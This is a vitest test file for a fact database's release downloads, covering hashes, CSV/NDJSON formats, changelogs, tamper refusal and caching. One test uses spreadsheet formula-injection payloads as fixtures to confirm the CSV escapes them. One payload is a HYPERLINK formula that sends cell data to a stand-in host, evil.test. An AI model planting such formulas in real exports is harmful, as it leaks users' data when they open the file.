import { ZApiFactPage, ZReleaseChangePage, ZReleasePage, ZReleaseResponse } from "@dyad/api-contract";
import { getDb, publishFact, reviseFact, revokeApiToken, unpublishFact } from "@dyad/db";
import { describe, expect, it } from "vitest";
import { jcs, releaseHash, sha256 } from "../setup/api-canonical";
import { apiClient, expectProblem } from "../setup/api-client";
import { publishedFact, relationScenario, tokenFor } from "../setup/api-factories";
import {
  cutRelease,
  downloadRelease,
  parseCsv,
  parseNdjson,
  type ReleaseLine,
  replayChanges,
  withReleaseData,
} from "../setup/api-releases";
import { forgeSource, generalFact, unique } from "../setup/factories";

const reader = apiClient();
const cut = cutRelease;
const download = (name: string, file: string) => downloadRelease(reader, name, file);

describe("releases", () => {
  it("freezes what is public, with a hash anyone can recompute from the download", async () => {
    const scenario = await relationScenario();
    const kept = await publishedFact(scenario, "Kept as is.");
    const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
    const name = `2026.11.${unique()}`;
    const release = await cut(secret, name, "Monthly snapshot");
    expect(release.manifest).toMatchObject({
      format: "dyad-release/1",
      name,
      notes: "Monthly snapshot",
      asOf: release.asOf,
      hashAlgorithm: "sha256",
      contentHash: release.contentHash,
    });

    // facts.ndjson: its bytes hash to contentHash (what `sha256sum facts.ndjson` checks)...
    const ndjson = await download(name, "facts.ndjson");
    expect(sha256(ndjson.bytes)).toBe(release.contentHash);
    expect(ndjson.response.headers.get("repr-digest")).toBe(
      `sha-256=:${Buffer.from(release.contentHash, "hex").toString("base64")}:`,
    );
    // ...and every line is the record's canonical JSON, in fact id order, as documented.
    const lines = ndjson.bytes.toString("utf8").split("\n");
    expect(lines.pop()).toBe("");
    expect(lines.map((l) => jcs(JSON.parse(l)))).toEqual(lines);
    const ids = lines.map((l) => (JSON.parse(l) as ReleaseLine).factId);
    expect(ids).toEqual([...ids].sort());
    expect(ids).toContain(kept.factId);
    expect(release.factCount).toBe(lines.length);

    // The JSON and CSV downloads carry the same facts: the hash is recomputed from the JSON alone.
    const json = JSON.parse((await download(name, "facts.json")).bytes.toString("utf8")) as {
      release: { name: string };
      facts: ReleaseLine[];
    };
    expect(json.release.name).toBe(name);
    expect(releaseHash(json.facts)).toBe(release.contentHash);
    const csv = (await download(name, "facts.csv")).bytes.toString("utf8");
    expect(csv.split("\n")[0]).toMatch(/^"factId","revisionId","revision","relation",/);
    expect(csv).toContain(kept.factId);

    // Asked about an instant in the release, reads name it.
    const page = await reader.json(`/api/v1/relations/${scenario.relation.slug}/facts?asOf=${release.asOf}`);
    expect(page).toMatchObject({ meta: { release: { name, contentHash: release.contentHash } } });
  });

  it("serves a CSV whose cells a spreadsheet never runs as formulas, and the exact text elsewhere", async () => {
    const scenario = await relationScenario();
    const formulas = [
      '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
      "+1+2",
      "-2+3",
      "@SUM(1,2)",
      "\t=1+1",
      "\r=1+1",
      // Fullwidth and small lookalikes, which some spreadsheets read as = and @.
      '＝HYPERLINK("http://evil.test/","Click")',
      "﹫SUM(1,2)",
    ];
    const facts = [];
    for (const formula of formulas) facts.push(await publishedFact(scenario, `${formula} ${unique()}`));
    const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
    const name = `csv.${unique()}`;
    const release = await cut(secret, name);

    const csv = (await download(name, "facts.csv")).bytes.toString("utf8");
    const statements = new Map(parseCsv(csv).map((row) => [row.factId, row.statement]));
    const ndjson = new Map(
      parseNdjson((await download(name, "facts.ndjson")).bytes).map((l) => [l.factId, l.statement]),
    );
    for (const [i, fact] of facts.entries()) {
      const exact = ndjson.get(fact.factId) as string;
      expect(exact.startsWith((formulas[i] as string).trim())).toBe(true);
      // In the CSV: a leading quote, and the cell quoted, so no spreadsheet evaluates it.
      expect(statements.get(fact.factId)).toBe(`'${exact}`);
      expect(csv).toContain(`"'${exact.replaceAll('"', '""')}"`);
    }
    expect(release.factCount).toBeGreaterThanOrEqual(formulas.length);
  });

  it("lists changes against the previous release, and never changes a released byte", async () => {
    const scenario = await relationScenario();
    const changed = await publishedFact(scenario, "Before.");
    const removed = await publishedFact(scenario, "Soon withdrawn.");
    const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
    const first = await cut(secret, `first-${unique()}`);
    const firstBytes = (await download(first.name, "facts.ndjson")).bytes;

    await reviseFact({
      factId: changed.factId,
      expectedRevisionId: changed.revision.id,
      content: generalFact("After."),
      note: "edit",
      actor: scenario.editor,
    });
    await publishFact({ factId: changed.factId, actor: scenario.reviewer });
    await unpublishFact({ factId: removed.factId, actor: scenario.reviewer });
    const added = await publishedFact(scenario, "New.");
    const second = await cut(secret, `second-${unique()}`);

    // Between the two downloads, my three facts changed as they did on the site.
    const before = new Map(parseNdjson(firstBytes).map((l) => [l.factId, l]));
    const secondBytes = (await download(second.name, "facts.ndjson")).bytes;
    const after = new Map(parseNdjson(secondBytes).map((l) => [l.factId, l]));
    expect([before.has(added.factId), after.get(added.factId)?.statement]).toEqual([false, "New."]);
    expect([before.get(changed.factId)?.statement, after.get(changed.factId)?.statement]).toEqual([
      "Before.",
      "After.",
    ]);
    expect([before.has(removed.factId), after.has(removed.factId)]).toEqual([true, false]);

    // The changelog and the manifest's counts agree with the downloads of this release and the
    // one before it (another test may have cut a release in between, so compare with that one).
    const previousName = second.manifest.previous?.name ?? "";
    expect(second.previous?.name).toBe(previousName);
    const previous = new Map(
      parseNdjson((await download(previousName, "facts.ndjson")).bytes).map((l) => [l.factId, l]),
    );
    const expected = [...new Set([...previous.keys(), ...after.keys()])].sort().flatMap((factId) => {
      const [p, a] = [previous.get(factId), after.get(factId)];
      if (p?.revisionId === a?.revisionId) return [];
      return [{ factId, change: !p ? "added" : !a ? "removed" : "changed" }];
    });
    const listed: { factId: string; change: string }[] = [];
    let next: string | null = `${second.links.changes}?limit=2`;
    while (next) {
      const page = ZReleaseChangePage.parse(await reader.json(next));
      listed.push(...page.data.map(({ factId, change }) => ({ factId, change })));
      next = page.links.next;
    }
    expect(listed).toEqual(expected);
    const count = (change: string) => expected.filter((e) => e.change === change).length;
    expect(second.manifest.changes).toEqual({
      added: count("added"),
      changed: count("changed"),
      removed: count("removed"),
    });

    // Nothing that happened since changed the first release's bytes, and the database refuses to.
    expect((await download(first.name, "facts.ndjson")).bytes.equals(firstBytes)).toBe(true);
    await expect(
      getDb().$executeRaw`UPDATE release SET notes = 'rewritten' WHERE name = ${first.name}`,
    ).rejects.toThrow();
    await expect(
      getDb()
        .$executeRaw`DELETE FROM release_fact WHERE release_id = (SELECT id FROM release WHERE name = ${first.name})`,
    ).rejects.toThrow();
    const again = ZReleaseResponse.parse(await reader.json(`/api/v1/releases/${first.name}`));
    expect(again.data).toEqual(first);
  });

  // Other files cut and download releases too: while the data is altered they wait (withReleaseData).
  it("refuses to serve a release whose underlying data was altered behind the application's back", async () => {
    const scenario = await relationScenario();
    const fact = await publishedFact(scenario, "Cites a source that will be tampered with.");
    const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
    await withReleaseData("exclusive", async () => {
      const release = await cut(secret, `tamper-${unique()}`);
      const sourceId = (
        await getDb().revisionSource.findFirstOrThrow({
          where: { revisionId: fact.revision.id },
          select: { sourceId: true },
        })
      ).sourceId;
      const { title } = await getDb().source.findUniqueOrThrow({ where: { id: sourceId } });
      await forgeSource(sourceId, { title: "Quietly rewritten" });
      try {
        // The file is written (and checked) before a byte is sent: the altered data is never served.
        const response = await reader.fetch(`${release.url}/facts.ndjson`);
        await expectProblem(response, 500);
      } finally {
        await forgeSource(sourceId, { title });
      }
      expect(sha256((await download(release.name, "facts.ndjson")).bytes)).toBe(release.contentHash);
    });
  });

  it("can be rebuilt from the changes feed: replaying it up to the release's instant gives its facts", async () => {
    const scenario = await relationScenario();
    await publishedFact(scenario, "Part of the mirrored state.");
    const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
    const release = await cut(secret, `mirror-${unique()}`);
    const expected = new Map(
      parseNdjson((await download(release.name, "facts.ndjson")).bytes).map((l) => [l.factId, l.revisionId]),
    );

    // The feed serves settled events only: while a transaction that began before the cut is still
    // running (other test files write at the same time), its end lies before the release's
    // instant. A mirror polls until it has passed it. (Files that hold long transactions or locks
    // use databases of their own, and no tier that writes to this database runs alongside the
    // http tier for long, so a few seconds are plenty.)
    let mirror = new Map<string, string>();
    let caughtUp = "";
    for (const deadline = Date.now() + 10_000; caughtUp < release.asOf && Date.now() < deadline; ) {
      mirror = new Map<string, string>();
      ({ asOf: caughtUp } = await replayChanges(reader, "/api/v1/changes?limit=1000", mirror, release.asOf));
      if (caughtUp < release.asOf) await new Promise((resolve) => setTimeout(resolve, 200));
    }
    expect(caughtUp >= release.asOf).toBe(true);
    expect(new Map([...mirror].sort())).toEqual(new Map([...expected].sort()));

    // Or start from the release and replay only what came after it.
    const fromRelease = new Map(expected);
    const { asOf } = await replayChanges(reader, `/api/v1/changes?since=${release.asOf}&limit=1000`, fromRelease);
    const mine = ZApiFactPage.parse(
      await reader.json(`/api/v1/relations/${scenario.relation.slug}/facts?asOf=${asOf}`),
    );
    for (const fact of mine.data) expect(fromRelease.get(fact.factId)).toBe(fact.revisionId);
  });

  it("caches releases for an hour (a takedown changes what they serve), redirects latest, and lets only reviewers cut one", async () => {
    const reviewer = await tokenFor("REVIEWER", ["releases:write"]);
    const name = `cache-${unique()}`;
    const release = await cut(reviewer.secret, name);
    const response = await reader.fetch(release.url);
    expect(response.headers.get("cache-control")).toBe("public, max-age=3600");
    const ndjson = await reader.fetch(`${release.url}/facts.ndjson`);
    const etag = ndjson.headers.get("etag") ?? "";
    await ndjson.arrayBuffer();
    const notModified = await reader.fetch(`${release.url}/facts.ndjson`, { headers: { "if-none-match": etag } });
    expect(notModified.status).toBe(304);
    // As of an instant before it was cut, the release did not exist yet.
    await expectProblem(await reader.fetch(`${release.url}?asOf=2020-01-01`), 404);
    const listedThen = ZReleasePage.parse(await reader.json("/api/v1/releases?asOf=2020-01-01"));
    expect(listedThen.data).toEqual([]);
    expect((await reader.fetch(`${release.url}?asOf=${release.asOf}`)).status).toBe(200);
    const latest = await reader.fetch("/api/v1/releases/latest");
    expect(latest.status).toBe(302);
    expect(latest.headers.get("location")).toMatch(/^\/api\/v1\/releases\//);

    await expectProblem(await apiClient({ token: reviewer.secret }).send("POST", "/api/v1/releases", { name }), 409);
    await expectProblem(
      await apiClient({ token: reviewer.secret }).send("POST", "/api/v1/releases", { name: "latest" }),
      400,
    );
    await revokeApiToken({ tokenId: reviewer.token.id, actor: reviewer.actor });
    await expectProblem(
      await apiClient({ token: reviewer.secret }).send("POST", "/api/v1/releases", { name: `x-${unique()}` }),
      401,
    );
  });
});
